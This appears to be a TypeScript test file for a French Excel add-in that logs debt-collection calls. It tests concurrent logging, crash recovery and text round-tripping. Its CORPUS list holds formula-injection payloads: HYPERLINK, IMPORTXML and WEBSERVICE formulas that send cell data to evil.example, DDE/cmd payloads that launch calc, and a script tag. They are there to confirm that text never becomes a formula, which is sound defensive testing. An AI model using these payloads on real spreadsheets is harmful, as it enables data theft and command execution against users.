import fc from "fast-check";
import { keepUntilSeen } from "../../src/application/keptLog";
import type { LogVerdict } from "../../src/application/logUpkeep";
import type { CallLog } from "../../src/application/ports";
import type { CallEvent, CallLogged } from "../../src/domain/callLog";
import type { Result } from "../../src/domain/result";
import { readXlsx } from "../../src/embedded/files/readXlsx";
import { writeXlsx } from "../../src/embedded/files/writeXlsx";
import { OfficeHost } from "../../src/embedded/host/officeHost";
import type { Workbook } from "../../src/embedded/workbook/workbook";
import { createCallLog } from "../../src/excel/callLogSheet";
import { decodeEvent, encodeEvent } from "../../src/excel/logEvents";
import { createLogUpkeep } from "../../src/excel/logUpkeep";
import { openExcelDoor, type ExcelDoor } from "../../src/excel/runExcel";
import { openLocalMemory } from "../../src/taskpane/localMemory";
import { StoredOutbox } from "../../src/taskpane/outbox";
import { openOfficeClient, type OfficeClient } from "../support/officeClient";
import { day } from "../support/receivables";
import { workbookOf } from "./excelScene";

function call(id: string, change: Partial<CallLogged> = {}): CallLogged {
  return {
    type: "call",
    id,
    loggedAt: "2026-11-23T09:00:00.000Z",
    author: "Claire",
    debtorKey: "durand",
    debtorName: "Durand",
    calledOn: day("2026-11-23"),
    outcome: "NOC",
    covers: [],
    ...change,
  };
}

function value<T>(result: Result<T, unknown>): T {
  if (!result.ok) throw new Error(JSON.stringify(result.fault));
  return result.value;
}

const clients: OfficeClient[] = [];
let two: readonly [OfficeClient, OfficeClient];
beforeAll(async () => {
  const host = hostOf(workbookOf({ Clients: [["Client"]] }));
  two = [await openOfficeClient(host), await openOfficeClient(host)];
  clients.push(...two);
});
afterAll(() => clients.splice(0).forEach((client) => client.close()));

function hostOf(workbook: Workbook): OfficeHost {
  return new OfficeHost(workbook, { uiLanguage: "fr-FR", dataLocale: "fr-FR" });
}

const doorOf = (client: OfficeClient): ExcelDoor => openExcelDoor(() => client.Excel);

async function verdictOf(log: CallLog, client: OfficeClient): Promise<LogVerdict> {
  return value(await createLogUpkeep(doorOf(client), log).verify());
}

const idsOf = (events: readonly CallEvent[]): readonly string[] => events.map(({ id }) => id).sort();

/** One person: their computer keeps the outbox when their pane dies. */
class Person {
  private readonly memory = openLocalMemory("", () => {
    throw new Error("denied");
  });
  log: CallLog;

  constructor(
    private readonly client: OfficeClient,
    private readonly clientId: string,
  ) {
    this.log = this.openPane();
  }

  /** The pane dies; a new one knows what the computer kept. */
  crash(): void {
    this.log = this.openPane();
  }

  private openPane(): CallLog {
    const outbox = new StoredOutbox(this.memory, "clients.xlsx", {
      encode: encodeEvent,
      decode: decodeEvent,
    });
    return keepUntilSeen(createCallLog(doorOf(this.client), this.clientId), outbox);
  }
}

describe("Two people at once", () => {
  it("log 500 calls each: 1 000 entries, both see all, the chain verifies", async () => {
    const host = hostOf(workbookOf({ Clients: [["Client"]] }));
    two.forEach((client) => client.moveTo(host));
    const people = two.map((client, index) => new Person(client, `person${index}`));
    await Promise.all(
      people.map(async ({ log }, person) => {
        for (let number = 0; number < 500; number += 1)
          value(await log.append([call(`${person}-${number}`)]));
      }),
    );
    for (const { log } of people) expect(new Set(idsOf(value(await log.read()))).size).toBe(1_000);
    expect(await verdictOf(people[0]!.log, two[0])).toMatchObject({
      entryCount: 1_000,
      sheetCount: 2,
      findings: [],
    });
  }, 300_000);

  const moment = fc.constantFrom("before", "after", "partway" as const);
  const code = fc.constantFrom(
    "GeneralException",
    "RequestAborted",
    "AccessDenied",
    "ItemNotFound",
    "Conflict",
  );
  const step = fc.oneof(
    {
      weight: 4,
      arbitrary: fc.record({ type: fc.constant("append" as const), count: fc.integer({ min: 1, max: 3 }) }),
    },
    { weight: 2, arbitrary: fc.record({ type: fc.constant("read" as const) }) },
    {
      weight: 2,
      arbitrary: fc.record({
        type: fc.constant("fail" as const),
        sync: fc.integer({ min: 1, max: 4 }),
        moment,
        code,
      }),
    },
    { weight: 1, arbitrary: fc.record({ type: fc.constant("crash" as const) }) },
    {
      weight: 1,
      arbitrary: fc.record({ type: fc.constant("slow" as const), sync: fc.integer({ min: 1, max: 3 }) }),
    },
  );
  const steps = fc.array(step, { minLength: 1, maxLength: 8 });

  it("never lose or double an entry, in whatever order their requests come, fail and crash", async () => {
    await fc.assert(
      fc.asyncProperty(steps, steps, fc.boolean(), async (mine, theirs, isOnePerson) => {
        const workbook = workbookOf({ Clients: [["Client"]] });
        const host = hostOf(workbook);
        two.forEach((client) => client.moveTo(host));
        const people = two.map(
          (client, index) => new Person(client, isOnePerson ? "same" : `person${index}`),
        );
        const logged = new Set<string>();
        await Promise.all(
          [mine, theirs].map(async (script, index) => {
            const person = people[index]!;
            const clientId = two[index]!.connection.id;
            for (const [at, one] of script.entries()) {
              if (one.type === "append") {
                const entries = Array.from({ length: one.count }, (_, number) =>
                  call(`${index}-${at}-${number}`),
                );
                entries.forEach(({ id }) => logged.add(id));
                // Whether it succeeded or not: it must come into the log in the end.
                await person.log.append(entries);
              } else if (one.type === "read") await person.log.read();
              else if (one.type === "crash") person.crash();
              else if (one.type === "slow")
                host.faults.plan({ sync: one.sync, kind: "delay", delayMs: 5, clientId });
              else
                host.faults.plan({
                  sync: one.sync,
                  kind: one.moment as "before",
                  code: one.code,
                  clientId,
                });
            }
          }),
        );
        host.faults.clear();
        for (const [index, { log }] of people.entries()) {
          logged.add(`end-${index}`);
          value(await log.append([call(`end-${index}`)]));
        }
        for (const { log } of people) expect(idsOf(value(await log.read()))).toEqual([...logged].sort());
        // Two windows that share a sheet may both have gone on from the same row: seen, and said.
        if (!isOnePerson) expect((await verdictOf(people[0]!.log, two[0])).findings).toEqual([]);
      }),
      { numRuns: 40 },
    );
  }, 300_000);
});

// Sources: OWASP, CSV injection and its cheat sheets; texts that accountants type; what spreadsheets mangle.
const CORPUS: readonly string[] = [
  '=HYPERLINK("http://evil.example?x="&A1,"Cliquez")',
  "=1+1",
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+1",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a/a10")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "＝1+1",
  '",=1+1',
  "'=1+1",
  "''=1+1",
  "%0A=1+1",
  "{=1+1}",
  "+33 6 12 34 56 78",
  "0033612345678",
  "06 12 34 56 78",
  "01.99.00.00.00",
  "-late",
  "- rappeler jeudi\n- demander le RIB",
  "• virement\n• chèque",
  "@x",
  "@Paul: à voir",
  "'quoted",
  "l’échéance n'est pas tenue, d'après l'associé",
  "'",
  "''",
  "« après 14 h »",
  "03/04/2026",
  "2026-11-23",
  "1-2",
  "1/2",
  "1E5",
  "0012",
  "1 234,56 €",
  "12:30",
  "50 %",
  "TRUE",
  "VRAI",
  "FALSE",
  "#N/A",
  "#REF!",
  "NULL",
  "MARCH1",
  "SEPT2",
  " espaces autour ",
  "tab\tulation",
  "fin de ligne\r\nWindows",
  "vieux Mac\rici",
  "x".repeat(10_000),
  "-".repeat(10_000),
  "é".repeat(10_000),
  "💶".repeat(5_000),
  "👩‍👩‍👧‍👦🇫🇷",
  "ב־23 בנובמבר ישלם",
  "سيدفع يوم الخميس ‏123",
  "\u202eabc\u202c",
  "\ud83d",
  "\udcb6 seul",
  "\u0000\u0001\u0008\u000b\u001f\u007f\u0085\u2028\u2029\ufeff\ufffe\uffff",
  "_x000D_ et _x0041_",
  "<script>alert(1)</script>",
  "]]>&amp;<!--",
  '{"type":"void"}',
  "…",
];

describe("Any text", () => {
  it("comes back as it was typed, also from a saved file, and never becomes a formula", async () => {
    const workbook = workbookOf({ Clients: [["Client"]] });
    const host = hostOf(workbook);
    two.forEach((client) => client.moveTo(host));
    const { log } = new Person(two[0], "person0");
    const entries = CORPUS.map((text, index) =>
      call(`${String(index).padStart(3, "0")}`, {
        note: text,
        person: text,
        debtorName: text,
        author: text,
        version: text,
        covers: [{ key: text, reference: text, open: { amountMinor: 1, currency: "EUR" } }],
      }),
    );
    for (const entry of entries) value(await log.append([entry]));
    const saved = value(readXlsx(writeXlsx(workbook)));
    for (const [book, client] of [
      [workbook, two[1]],
      [saved, two[0]],
    ] as const) {
      client.moveTo(hostOf(book));
      const { log: later } = new Person(client, "later");
      const byId = (one: CallEvent, other: CallEvent): number => (one.id < other.id ? -1 : 1);
      expect([...value(await later.read())].sort(byId)).toEqual(entries);
      expect((await verdictOf(later, client)).findings).toEqual([]);
      const formulas = book.sheets.flatMap((sheet) =>
        sheet.name.startsWith("Relance_Log") ? [...formulasOf(sheet)] : [],
      );
      expect(formulas).toEqual([]);
    }
  }, 120_000);
});

function* formulasOf(sheet: Workbook["sheets"][number]): Iterable<string> {
  const used = sheet.usedRange(false);
  if (used === undefined) return;
  for (let row = 0; row <= used.bottom; row += 1)
    for (let column = 0; column <= used.right; column += 1) {
      const formula = sheet.cellAt(row, column)?.formula;
      if (formula !== undefined) yield formula;
    }
}
